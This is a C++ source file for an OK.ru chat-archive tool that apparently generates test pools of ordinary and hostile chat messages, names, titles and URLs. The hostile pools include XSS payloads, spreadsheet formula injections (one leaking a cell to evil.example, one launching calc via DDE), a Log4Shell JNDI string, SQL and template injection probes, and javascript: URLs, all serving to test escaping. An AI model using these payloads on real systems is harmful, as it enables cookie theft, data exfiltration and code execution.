#include "sim/TextPools.h"

#include <iterator>

using namespace std::literals;

namespace okarchive::sim {

namespace {

constexpr std::string_view kOrdinaryTexts[] = {
    "Привет всем!"sv,
    "Hello everyone"sv,
    "Кто сегодня идёт на встречу?"sv,
    "Я буду в 19:00, не опаздывайте"sv,
    "ok"sv,
    "Спасибо!"sv,
    "Смотрите, что нашла: https://ok.ru/group/53038939046008"sv,
    "https://ya.ru/"sv,
    "Ага, договорились 👍"sv,
    "Фото с прошлых выходных выложу вечером"sv,
    "Did anyone see the match yesterday?"sv,
    "С днём рождения! 🎉🎂"sv,
    "Напоминаю: собрание в пятницу, кабинет 204"sv,
    "Можно ссылку ещё раз?"sv,
    "Всем доброе утро ☀️"sv,
    "Цена вопроса — 1500 ₽, оплата до 15.07"sv,
    "Не могу найти тот файл, перешлите, пожалуйста"sv,
    "lol"sv,
    "Хорошо, спасибо за информацию."sv,
    "Отличная идея! Давайте так и сделаем."sv,
    "Ссылка на опрос: https://ok.ru/poll/12345?utm_source=chat&x=1"sv,
    "Who has the charger? Кто взял зарядку?"sv,
    "Погода сегодня: +23°C, без осадков"sv,
    "Завтра не смогу, простите 😔"sv,
    "Ура!!!"sv,
    "Подробности тут: ok.ru/dk?st.cmd=altGroupMain"sv,
    "Кстати, кто-нибудь знает хорошего сантехника?"sv,
    "Прикрепляю расписание на неделю"sv,
    "Мама, позвони, когда освободишься"sv,
    "Супер, жду"sv,
    "Line one\nLine two\nLine three"sv,
    "Заказ №4821 готов к выдаче"sv,
    "Посмотрите видео, очень смешно 😂😂😂"sv,
    "Да"sv,
    "Нет"sv,
    "Возможно"sv,
    "Всем спокойной ночи 🌙"sv,
    "Приглашаю на дачу в субботу, шашлыки 🍖"sv,
    "Kto-nibud' pishet translitom?"sv,
    "50% скидка только сегодня"sv,
};

// Hostile texts, in pick order: these, then a 4096-letter word and a 1500-letter Cyrillic word, then the rest.
constexpr std::string_view kHostileTexts[] = {
    "<script>alert(1)</script>"sv,
    "\"><img src=x onerror=alert(1)>"sv,
    "</title><h1>pwned</h1>"sv,
    "</textarea><svg onload=alert(document.domain)>"sv,
    "<!-- unclosed comment"sv,
    "&lt;not an entity&gt; &amp; &#x3C;script&#x3E;"sv,
    "=HYPERLINK(\"http://x\")"sv,
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"sv,
    "+1"sv,
    "-2"sv,
    "@SUM(A1)"sv,
    "=1+2;cmd|' /C calc'!A0"sv,
    "\tleading tab"sv,
    "\rleading carriage return"sv,
    "\nleading line feed"sv,
    "a,b,\"c\",d\r\ne,f"sv,
    "NUL\0inside"sv,
    "\0"sv,
    "\0leading NUL"sv,
    "controls \x01\x02\x1b[31mred\x1b[0m \x1f and DEL \x7f end"sv,
    "backspace\b formfeed\f vertical\v tab"sv,
    "emoji 😀 👍🏽 👨‍👩‍👧‍👦 🏳️‍🌈 🇷🇺"sv,
    "𝕳𝖊𝖑𝖑𝖔 𝔀𝓸𝓻𝓵𝓭 (mathematical letters, 4-byte)"sv,
    "مرحبا بالعالم — Arabic right to left"sv,
    "שלום עולם — עברית"sv,
    "invoice\u202Efdp.exe"sv,
    "\u202Eright-to-left override from the start"sv,
    "Съешь же ещё этих мягких французских булок, да выпей чаю"sv,
    "Café crème, naïve façade, Ærøskøbing, ß"sv,
    "path/with/slashes and \\backslashes\\ and \"quotes\" and 'apostrophes'"sv,
    "</script><script>alert(\"x\")</script>"sv,
    "line1\nline2\r\nline3\rline4"sv,
    "separators\u2028line\u2029paragraph"sv,
    "\xEF\xBB\xBF"
    "BOM at the start"sv,
    "' OR 1=1 --"sv,
    "${jndi:ldap://evil.example/a}"sv,
    "{{7*7}} ${7*7} <%= 7*7 %>"sv,
    "[not json] {\"ui\":1,\"ty\":\"EXIT\"} inside a sentence"sv,
    "zero\u200Bwidth\u200Djoiner\uFEFFnbsp\u00A0"sv,
    "combining: e\u0301 a\u0308 Z\u0336\u0335"sv,
};

constexpr std::string_view kHostileTextsAfterLongWords[] = {
    "中文消息 日本語のメッセージ 한국어 메시지"sv,
    "    leading and trailing spaces    "sv,
    "\\u0041 is not an escape here, and neither is \\n"sv,
    "javascript:alert(1)"sv,
};

}  // namespace

const std::vector<std::string_view>& ordinaryTexts() {
    static const std::vector<std::string_view> pool(std::begin(kOrdinaryTexts), std::end(kOrdinaryTexts));
    return pool;
}

const std::vector<std::string_view>& hostileTexts() {
    static const std::string longWord(4096, 'W');
    static const std::string longWordCyr = [] {
        std::string s;
        for (int i = 0; i < 1500; ++i) s += "Ж";
        return s;
    }();
    static const std::vector<std::string_view> pool = [] {
        std::vector<std::string_view> texts(std::begin(kHostileTexts), std::end(kHostileTexts));
        texts.insert(texts.end(), {longWord, longWordCyr});
        texts.insert(texts.end(), std::begin(kHostileTextsAfterLongWords), std::end(kHostileTextsAfterLongWords));
        return texts;
    }();
    return pool;
}

std::string_view loneSurrogateText() { return "lone surrogate here: [\xED\xA0\x80] (sent as \\ud800)"sv; }

const std::string& hundredKilobyteText() {
    static const std::string text = [] {
        std::string s;
        s.reserve(102400);
        const std::string_view words[] = {"Очень "sv,   "длинное "sv, "сообщение "sv,   "very "sv,     "long "sv,
                                          "message "sv, "😀 "sv,       "<b>bold</b> "sv, "=SUM(A1) "sv, "\n"sv};
        std::size_t k = 0;
        while (true) {
            const std::string_view w = words[k % 10];
            k = k * 7 + 3;
            k %= 1000003;
            if (s.size() + w.size() > 102400) break;
            s += w;
        }
        while (s.size() < 102400) s += '.';
        return s;
    }();
    return text;
}

const std::vector<std::string_view>& userNames() {
    static const std::vector<std::string_view> names = {
        "John Smith"sv,
        "Иван Петров"sv,
        "Мария Иванова"sv,
        "<b>Ivan</b>"sv,
        "Ольга Смирнова"sv,
        "Дмитрий Кузнецов"sv,
        "Анна-Мария О'Нил"sv,
        "محمد علي"sv,
        "דוד כהן"sv,
        "Zoë Ångström"sv,
        "=HYPERLINK(\"http://x\",\"Sergey\")"sv,
        "李小龙"sv,
        "Елена Васильева"sv,
        "😀 Emoji Guy 👨‍👩‍👧"sv,
        "Sergey \"The Hammer\" K."sv,
        "Alexei\u202Egnp.exe"sv,
        "Наталья Соколова"sv,
        "Пётр Михайлов"sv,
        "Татьяна Попова"sv,
        "Андрей Лебедев"sv,
        "Юлия Козлова"sv,
        "Alex \"><script>alert(1)</script>"sv,
        "Николай Новиков"sv,
        "Светлана Морозова"sv,
        "Michael O'Brien"sv,
        "Виктор Волков"sv,
        "Irina\tTabbed"sv,
        "Галина Фёдорова"sv,
        "Oleg / Олег"sv,
        "Ксения Павлова"sv,
    };
    return names;
}

const std::vector<std::string_view>& renamedNames() {
    static const std::vector<std::string_view> names = {
        "Иван Петров-Водкин"sv,  "Мария Сидорова"sv, "</title>Ivan"sv,
        "Ольга (в отпуске 🌴)"sv, "Yulia K."sv,       "Николай Н."sv,
    };
    return names;
}

const std::vector<std::size_t>& renamedUsers() {
    static const std::vector<std::size_t> users = {1, 2, 3, 4, 20, 22};
    return users;
}

const std::vector<std::string_view>& chatTitles() {
    static const std::vector<std::string_view> titles = {
        "Семейный чат"sv,
        "Работа: отдел продаж"sv,
        "</title><script>alert(1)</script> Дача"sv,
        "Class of 2005 🎓"sv,
        "=HYPERLINK(\"http://x\") Соседи"sv,
        "Книжный клуб"sv,
    };
    return titles;
}

const std::vector<std::string_view>& serviceKinds() {
    static const std::vector<std::string_view> kinds = {"EXIT"sv,  "ADD"sv,  "REMOVE"sv,         "JOIN"sv,
                                                        "TITLE"sv, "ICON"sv, "ZZZ_FUTURE_KIND"sv};
    return kinds;
}

const std::vector<std::string_view>& hostileUrls() {
    static const std::vector<std::string_view> urls = {
        "javascript:alert(1)"sv,
        "JaVaScRiPt:alert(document.cookie)"sv,
        "data:text/html,<script>alert(1)</script>"sv,
        " https://ok.ru.invalid/ x"sv,  // .invalid never resolves: a media download fails on this machine
        "vbscript:msgbox(1)"sv,
        "https://ok.ru.invalid/\"><script>alert(1)</script>"sv,
        "\tjavascript:alert(2)"sv,
    };
    return urls;
}

}  // namespace okarchive::sim
